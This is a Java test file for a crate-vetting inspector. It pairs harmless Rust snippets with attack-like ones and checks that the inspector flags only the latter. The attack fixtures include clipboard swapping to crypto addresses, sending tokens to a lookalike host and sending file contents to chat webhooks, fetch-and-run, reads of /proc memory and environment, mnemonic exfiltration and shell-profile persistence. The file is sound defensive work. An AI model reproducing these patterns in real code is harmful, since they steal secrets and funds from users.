package lazaret.vetting.inspect;

import static lazaret.vetting.inspect.InspectionFixture.demo;
import static lazaret.vetting.inspect.InspectionFixture.inspect;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import lazaret.testkit.CrateBuilder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Honest sources that do what attacks do, each paired with the attack from which it differs only
/// by its purpose. Nothing here is ever run.
final class HonestPurposeTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        // A store of texts, which puts back what it stored before.
        "fn a(s: &mut S) { let t = C::new().get_text().unwrap(); if t.len() < 9 { s.keep(t); } } fn b(s: &S, n: u8) { C::new().set_text(s.take(n)); }",
        // The program clears text that it copied itself.
        "fn f(was: &str) { let mut c = C::new(); if c.get_text().unwrap() == was { c.set_text(\"\"); } }",
        // A part of the read text is removed.
        "fn f() { let t = c.get_text().unwrap(); if t.starts_with(\"http\") { let n = strip(&t); c.set_text(n); } } fn strip(t: &str) -> String { t.split('?').next().unwrap().to_owned() }",
        "fn f() { let t = c.get_text().unwrap(); if t.contains('\\r') { c.set_text(t.replace(\"\\r\\n\", \"\\n\")); } }",
      })
  void leavesClipboardsAlone(String source) {
    assertThat(heavy(source)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "fn f(&self) { let t = c.get_text().unwrap(); if looks(&t) { c.set_text(self.own.clone()); } }",
        "fn f() { while let Ok(t) = c.get_text() { match kind(&t) { Some(k) => c.set_text(pick(k)).unwrap(), None => () } } }",
        "fn f(&self) { let t = c.get_text().unwrap(); if t.len() > 25 { let n = R.replace_all(&t, self.to.as_str()); c.set_text(n.into_owned()); } }",
        "fn g(c: &mut C) { c.set_text(other()); } fn f(c: &mut C) { let t = c.get_text().unwrap(); if t.starts_with(\"bc1\") { g(c); } }",
        "const A: &str = \"0x52908400098527886E0F7030069857D2E4169EE7\"; fn f() { let t = c.get_text().unwrap(); c.set_text(A); }",
      })
  void seesClipboardsThatAreSwapped(String source) {
    assertThat(heavy(source)).contains("clipboard-swap");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        // A socket of the user, in a folder that only this user may enter.
        "`use std::os::unix::{fs::PermissionsExt, net::{UnixListener, UnixStream}}; use std::process::Command; fn f(d: &Path) { let l = UnixListener::bind(d.join(\"s\")); std::fs::set_permissions(&d, Permissions::from_mode(0o600)); Command::new(\"/bin/sh\").spawn(); }`",
        // A server for tests, on a port of this machine.
        "`use std::net::{Ipv4Addr, TcpStream}; fn f() { let d = tempfile::tempdir(); std::fs::write(d.join(\"a\"), b); std::process::Command::new(\"postgres\").spawn(); TcpStream::connect((Ipv4Addr::LOCALHOST, 5)); }`",
        // The settings of the user name a command for the password.
        "`use lettre::SmtpTransport; fn f(s: &Settings) { let o = std::process::Command::new(\"sh\").arg(\"-c\").arg(&s.password_command).output(); SmtpTransport::relay(&s.host); }`",
        // A key is sent to the service that it is named after.
        "`const B: &str = \"https://api.nodeport.example/v2\"; fn f() { let k = std::env::var(\"NODEPORT_API_KEY\").unwrap(); reqwest::blocking::Client::new().get(format!(\"{B}/m\")).bearer_auth(k).send(); }`",
        "`fn f() { let t = std::env::var(\"GITHUB_TOKEN\").or_else(|_| std::env::var(\"GH_TOKEN\")).unwrap(); ureq::get(\"https://api.github.com/user\").set(\"Authorization\", &format!(\"Bearer {t}\")).call(); }`",
        // The caller supplies the keys of a chat service and the text.
        "`fn f(id: u64, token: &str, text: &str) { ureq::post(&format!(\"https://discord.com/api/webhooks/{id}/{token}\")).send_string(text); }`",
        // The known hosts of the user decide whether a connection continues.
        "`fn f(h: &str) { let s = ssh2::Session::new(); std::net::TcpStream::connect(h); s.known_hosts().read_file(&home().join(\".ssh/known_hosts\"), K); }`",
        // A machine requests its own metadata from its cloud.
        "`const B: &str = \"http://169.254.169.254/latest\"; fn f() -> String { ureq::get(&format!(\"{B}/region\")).call().into_string() }`",
        // Checks are disabled by a variable.
        "`fn f(b: ClientBuilder) { if std::env::var_os(\"TOOL_SKIP_VERIFY\").is_some() { b.danger_accept_invalid_certs(true); } }`",
        // A filter for logs.
        "`static R: &str = r\"\\b0x[a-fA-F0-9]{64}\\b\"; fn redact(t: &str) -> String { Regex::new(R).unwrap().replace_all(t, \"..\").into_owned() }`",
        // A file is copied from a profile, not to it.
        "`fn f(h: &Path) { for e in std::fs::read_dir(h.join(\"/home\")).unwrap() { std::fs::copy(e.path(), out); } }`",
        // An error contains no part of the phrase, and another type has a function of the same
        // name.
        "`fn w(phrase: &str) { let m = parse(phrase).map_err(|e| e.to_string()); } fn s(n: &N, raw: &str) { let b = hex(raw).map_err(|e| e.to_string()); ureq::post(&n.url).send_json(b); }`",
        "`struct N { url: String } impl N { fn new(url: String) -> N { N { url } } fn s(&self) { ureq::post(&self.url).call(); } } fn k(mnemonic: &str) { Zeroizing::new(mnemonic.to_owned()); }`",
      })
  void leavesHonestPurposesAlone(String source) {
    assertThat(heavy(source)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "fetch-and-run|`use std::os::unix::fs::PermissionsExt; use std::net::TcpStream; fn f(d: &Path) { TcpStream::connect(a); std::fs::set_permissions(&d, Permissions::from_mode(0o755)); std::process::Command::new(d).spawn(); }`",
        "fetch-and-run|`use std::os::unix::fs::PermissionsExt; use std::net::TcpStream; fn f(d: &Path, m: u32) { TcpStream::connect(a); std::fs::set_permissions(&d, Permissions::from_mode(m)); std::process::Command::new(d).spawn(); }`",
        "fetch-and-run|`const B: &str = \"https://c.invalid\"; fn f(s: &S) { std::process::Command::new(\"sh\").arg(\"-c\").arg(&s.text).output(); ureq::get(B).call(); }`",
        "fetch-and-run|`use std::net::{TcpListener, TcpStream}; fn f() { let l = TcpListener::bind(a); std::process::Command::new(\"sh\").arg(\"-c\").arg(x).spawn(); }`",
        "secret-sent|`const B: &str = \"https://api.nodeport.example/v2\"; fn f() { let k = std::env::var(\"GITHUB_TOKEN\").unwrap(); let l = std::env::var(\"GH_TOKEN\"); ureq::get(B).query(\"q\", &k).call(); }`",
        "secret-sent|`fn f() { let k = std::env::var(\"GITHUB_TOKEN\").unwrap(); let l = std::env::var(\"GH_TOKEN\"); ureq::get(\"https://github.com.node.example/\").query(\"q\", &k).call(); }`",
        "drop-address|`const T: &str = \"1\"; fn f(text: &str) { ureq::post(&format!(\"https://api.telegram.org/bot{}/sendMessage\", T)).send_string(text); }`",
        "drop-address|`fn f(id: u64, token: &str) { let text = std::fs::read_to_string(p).unwrap(); ureq::post(&format!(\"https://discord.com/api/webhooks/{id}/{token}\")).send_string(&text); }`",
        "machine-sent|`const B: &str = \"http://169.254.169.254/latest\"; fn f() { let r = ureq::get(&format!(\"{B}/region\")).call(); ureq::get(\"https://o.invalid/\").call(); }`",
        "weak-check|`fn f(b: ClientBuilder) { if !cfg!(debug_assertions) { b.danger_accept_invalid_certs(true); } }`",
        "weak-check|`fn f(b: ClientBuilder) { if std::env::var_os(\"HOME\").is_some() { b.danger_accept_invalid_certs(true); } }`",
        "key-pattern|`static R: &str = r\"\\b0x[a-fA-F0-9]{64}\\b\"; fn find(t: &str) { std::fs::write(out, Regex::new(R).unwrap().find(t)); }`",
        "process-files|`fn environ(pid: i32) { let e = std::fs::read(format!(\"/proc/{pid}/environ\")).unwrap(); std::fs::write(out, e); }`",
        "process-files|`fn memory(pid: i32) -> std::fs::File { std::fs::File::open(format!(\"/proc/{pid}/mem\")).unwrap() }`",
        "secret-sent|`fn s(n: &N) { let (mnemonic, raw) = (n.mnemonic(), 1); let b = hex(mnemonic).map(|e| e.to_string()); ureq::post(&n.url).send_json(b); }`",
      })
  void seesTheAttacksBesideThem(String code, String source) {
    assertThat(heavy(source)).contains(code);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "``|`use std::process::Command; fn f() { for l in std::fs::read_to_string(\".hooks\").unwrap().lines() { Command::new(\"sh\").args([\"-c\", l]).status(); } }`",
        "received-run|`use std::process::Command; fn f() { let p = std::env::temp_dir().join(\"a\"); for l in std::fs::read_to_string(p).unwrap().lines() { Command::new(\"sh\").args([\"-c\", l]).status(); } }`",
      })
  void seesWhatAProgramRuns(String code, String source) {
    assertThat(signals(demo().file("src/main.rs", source)))
        .isEqualTo(code.isEmpty() ? List.of() : List.of(code));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "``|`fn main() { let f = dirs::home_dir().unwrap().join(\".bashrc\"); if Confirm::new().with_prompt(\"add?\").interact().unwrap() { std::fs::OpenOptions::new().append(true).open(&f); } }`",
        "``|`fn confirm(q: &str) -> bool { let mut l = String::new(); std::io::stdin().read_line(&mut l); l == \"y\" } fn main() { let f = dirs::home_dir().unwrap().join(\".zshrc\"); if !confirm(\"add?\") { return; } std::fs::write(&f, b); }`",
        "persistence|`fn confirm(q: &str) -> bool { true } fn main() { let f = dirs::home_dir().unwrap().join(\".zshrc\"); if !confirm(\"add?\") { return; } std::fs::write(&f, b); }`",
        "persistence|`fn main() { let f = dirs::home_dir().unwrap().join(\".bashrc\"); if !Confirm::new().interact().unwrap() { } std::fs::OpenOptions::new().append(true).open(&f); }`",
      })
  void seesWhoIsAsked(String code, String source) {
    assertThat(signals(demo().file("src/main.rs", source)))
        .isEqualTo(code.isEmpty() ? List.of() : List.of(code));
  }

  private static List<String> heavy(String source) {
    return signals(demo().file("src/lib.rs", source.replace("; ", ";\n")));
  }

  private static List<String> signals(CrateBuilder crate) {
    return inspect(crate).signals().stream()
        .filter(signal -> signal.weight().compareTo(SignalWeight.REVIEW) >= 0)
        .map(Signal::code)
        .map(Object::toString)
        .distinct()
        .toList();
  }
}
